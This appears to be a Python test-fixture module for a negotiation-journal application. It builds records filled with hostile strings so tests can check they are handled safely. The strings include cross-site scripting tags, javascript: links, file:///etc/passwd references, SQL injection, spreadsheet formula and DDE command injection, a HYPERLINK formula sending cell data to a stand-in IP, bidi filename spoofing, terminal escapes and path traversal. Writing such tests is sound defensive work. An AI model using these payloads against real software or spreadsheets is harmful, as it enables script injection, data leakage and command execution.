"""Strings that do harm wherever text is more than text, and journals that are full of them.

Each names itself by a word that stands nowhere else, so that a test can find what became of it.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any

from negojournal.domain.catalog import Entry, EntryKind
from negojournal.domain.moment import Moment
from negojournal.domain.negotiation import Milestone, Negotiation, Status
from negojournal.domain.note import Note, Subject
from negojournal.domain.rule import LONGEST_LINE, LONGEST_TEXT, RULES
from negojournal.paths import resource_folder
from negojournal.service.journal import Journal, open_journal
from tests.builders import build_full_record, build_milestone

OPEN, CLOSED = "\u2066\u2067\u2068\u202a\u202b\u202d\u202e", "\u2069\u202c"
"""What turns the direction of a text, and what ends it."""

LINES: Mapping[str, str] = {
    "img": '<img src="http://192.0.2.1/qxzimg.png" onerror=alert(1)><b>qxzimg</b>',
    "file": '<img src="file:///etc/hostname"><a href="file:///etc/passwd">qxzfile</a>',
    "data": '<img src="data:image/png;base64,iVBORw0KGgo="><a href="javascript:alert(1)">qxzdata</a>',
    "script": "</p></td></table></body><script>alert('qxzscript')</script><!-- <![CDATA[ <?xml ]]>",
    "style": "<style>*{background:url(//192.0.2.1/x)}</style><h1>qxzstyle</h1> &lt;b&gt; &amp;amp;",
    "share": "<img src=//192.0.2.1/share/x.png> \\\\192.0.2.1\\share qxzshare",
    "math": r"$\frac{qxzmath}{ $ \input{/etc/passwd} _{^ $$ % \0",
    "keys": "R&D && T&qxzkeys &File &&& &",
    "percent": "100 % %s %n %1 %L2 %(title)s %%qxzpercent",
    "braces": "{title} {0} {} {folder} {{qxzbraces}} {self.__class__} }{ ${text} $window",
    "query": "NEAR(\"qxzquery\" AND OR NOT title:x* ^y -z {a b} : + ) ' ''; DROP TABLE search; --",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1;"qxzformula")',
    "formula-plus": "+1+cmd|' /C calc'!A0 qxzplus",
    "formula-minus": "-2+3 qxzminus",
    "formula-at": "@SUM(1+1) qxzat",
    "formula-wide": "＝1＋1 qxzwide",  # noqa: RUF001 - a spreadsheet takes these for the narrow ones
    "markdown": "# qxzmark **b** _i_ `c` [a](http://192.0.2.1) ![i](file:///etc/hostname) <!-- | --- |",
    "list": "1. - * > ~~~ ``` === --- qxzlist",
    "bidi": f"{OPEN}qxzbidi gpj.exe{CLOSED[0]} {OPEN}",
    "rtl": "مفاوضة qxzrtl עסקה (1) [2]",
    "zalgo": "q̸̢̛̻x̷̨̛̗z̵̡̛̳zalgo Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞ qxzzalgo",
    "unseen": "qxz\u200bunseen \u200d\u200c\u2060\ufeff\u00ad\u180e\u034f qxzunseen",
    "emoji": "qxzemoji 👩‍👩‍👧‍👦🏳️‍🌈👍🏽 🇩🇪 \U000e0061\U0010fffd",
    "calendar": "qxzics; X,Y\\n\\;END:VCALENDAR \\,BEGIN:VALARM",
    "word": "qxzword" + "W" * (LONGEST_LINE - 7),
    "noncharacter": "\U0001fffe\U0010ffff qxznon",
    "path": '../../qxzpath/CON:nul|<>*?".exe',
}
"""Titles, names, tags and labels: one line each, such as the rules let through."""

TEXTS: Mapping[str, str] = {
    **LINES,
    "lines": "qxzlines\u2028line\u2029paragraph\x85next\x0bdown\x0cpage\r\nEND:VEVENT\rX-QXZ:1\n\n# head\n- item",
    "terminal": "\x1b]0;qxzterminal\x07\x1b[2J\x1b[31mred\x9b5mC1\x08\x08 \x1b]8;;http://192.0.2.1\x07link",
    "formula-tab": "\t=1+1 qxztab",
    "formula-return": "\r=1+1 qxzreturn",
    "formula-line": "\n=1+1 qxznewline",
    "folds": "qxzfolds " + "ä" * 300 + " 👍" * 40,
}
"""What is written at length; here lines may break and control characters may stand."""

REFUSED: Mapping[str, str] = {
    "nul": "a\0b",
    "surrogate": "a\ud800b",
    "pair-turned": "\udc00\ud800",
    "byte order turned": "\ufffea",
    "no character": "a\uffff",
    "frame": "a\ufdd0\ufdd1",
}
"""What no text may hold."""

REFUSED_LINES: Mapping[str, str] = {
    **REFUSED,
    "break": "a\nb",
    "separator": "a\u2028b",
    "escape": "a\x1b[31mb",
    "blank": " \u3000 ",
    "unseen only": "\u200b\u2060",
    "too long": "a" * (LONGEST_LINE + 1),
    "bidi without end": "\u202e" * 2**20,
}

HUGE: Mapping[str, str] = {
    "one word": "x" * LONGEST_TEXT,
    "bidi": "\u202e\u2066" * (LONGEST_TEXT // 2),
    "marks": "a" + "\u0301" * (LONGEST_TEXT - 1),
    "lines": "a\n" * (LONGEST_TEXT // 2),
    "tags": "<b>" * (LONGEST_TEXT // 3),
}
"""Texts of the greatest length."""

_KEYS = {"area", "purposes", "key", "questionnaire", "currency", "id", "follows"}
"""Fields whose text is a name of the program's own."""


PLANNED = 500
"""The number of the first plan."""


def build_hostile(number: int, line: str, text: str, **changes: Any) -> Negotiation:
    """Return a record of which every line and every text is hostile."""
    record = _filled(build_full_record(number), line, text)
    commitments = tuple(replace(one, done_on=None, broken=False) for one in record.agreement.commitments)
    agreement = replace(record.agreement, commitments=commitments)
    named = {"title": line, "counterparts": (line,), "tags": (line,), "follows": None, "agreement": agreement}
    return replace(record, **{**named, **changes})


def build_hostiles(status: Status = Status.HELD, first: int = 1) -> list[Negotiation]:
    """Return a record for every hostile string; where a line can't hold it, its line is a tame one."""
    pairs = [(LINES.get(name, f"qxzline {name}"), text) for name, text in TEXTS.items()]
    return [build_hostile(first + number, *pair, status=status) for number, pair in enumerate(pairs)]


def build_hostile_milestones() -> list[Milestone]:
    return [build_milestone(at, title=line, note=line) for at, line in enumerate(LINES.values())]


def build_hostile_notes() -> list[Note]:
    people = [Note(Subject.COUNTERPART, line, line) for line in LINES.values()]
    revisions = [
        Note(Subject.STRATEGY, f"2025-01-{day:02}", text) for day, text in enumerate(TEXTS.values(), 1) if day < 29
    ]
    return people + revisions


def open_hostile_journal() -> Journal:
    """Return a journal in memory in which everything is hostile: what was held, what is planned, and all beside it."""
    journal = open_journal(None, resource_folder())
    fill_hostile(journal)
    return journal


def fill_hostile(journal: Journal) -> None:
    held, planned = build_hostiles(), build_hostiles(Status.PLANNED, first=PLANNED)
    journal.fill([*held, *planned], build_hostile_milestones(), build_hostile_notes())
    for kind in EntryKind:
        own = [Entry(kind, f"hostile-{name}", line, line) for name, line in LINES.items()]
        journal.settings.replace_entries(kind, [*journal.settings.entries(kind), *own])


def _filled(value: Any, line: str, text: str) -> Any:
    """Return a value in which every text is a hostile one."""
    rules = RULES.get(type(value), {})

    def put(name: str, one: Any) -> Any:
        return _put(one, line if name in rules else text, lambda inner: _filled(inner, line, text))

    return replace(value, **{f.name: put(f.name, getattr(value, f.name)) for f in fields(value) if f.name not in _KEYS})


def _put(value: Any, string: str, inner: Callable[[Any], Any]) -> Any:
    if type(value) is str:
        return string
    if isinstance(value, tuple):
        return tuple(_put(one, string, inner) for one in value)
    return inner(value) if is_dataclass(value) and not isinstance(value, Moment) else value
